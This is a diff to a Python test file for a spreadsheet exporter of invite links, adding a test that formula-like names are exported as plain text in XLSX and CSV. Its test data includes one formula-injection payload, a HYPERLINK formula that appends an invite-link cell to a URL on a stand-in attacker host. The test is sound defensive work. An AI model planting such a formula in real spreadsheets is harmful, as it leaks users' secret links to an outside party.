@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import timedelta
 from zoneinfo import ZoneInfo
@@ -9,7 +10,7 @@ from zoneinfo import ZoneInfo
 from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncSession
 
-from screens.invite_sheet import to_xlsx
+from screens.invite_sheet import to_csv, to_xlsx
 from services.people import invite_sheet, invites
 from storage.models import Role, TelegramAccount, utcnow
 from tests.factories import College
@@ -79,3 +80,30 @@ async def test_new_sheet_revokes_old_links_and_xlsx_opens(
     sheet = book.active
     assert sheet.max_row == len(second) + 1
     assert sheet.cell(row=2, column=5).value == second[0].link
+
+
+def test_cells_that_would_be_formulas_are_kept_as_text_in_both_formats() -> None:
+    hostile = ['=HYPERLINK("https://evil.example/?"&E2,"x")', "+7 999", "-1", "@SUM(A1)"]
+    rows = [
+        invite_sheet.InviteRow(
+            external_id="s1",
+            full_name=name,
+            roles=(Role.PARENT,),
+            groups="@g",
+            link="https://t.me/journal_test_bot?start=secret",
+            expires="2026-12-31",
+        )
+        for name in hostile
+    ]
+
+    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert [sheet.cell(row=n, column=2).value for n in range(2, 6)] == [f"'{h}" for h in hostile]
+
+    text = to_csv(rows).decode("utf-8-sig")
+    records = list(csv.reader(io.StringIO(text)))[1:]
+    assert [r[1] for r in records] == [f"'{h}" for h in hostile]
+    assert all(r[3] == "'@g" for r in records)
+    assert all(r[4].startswith("https://") for r in records)  # a plain value stays as it is
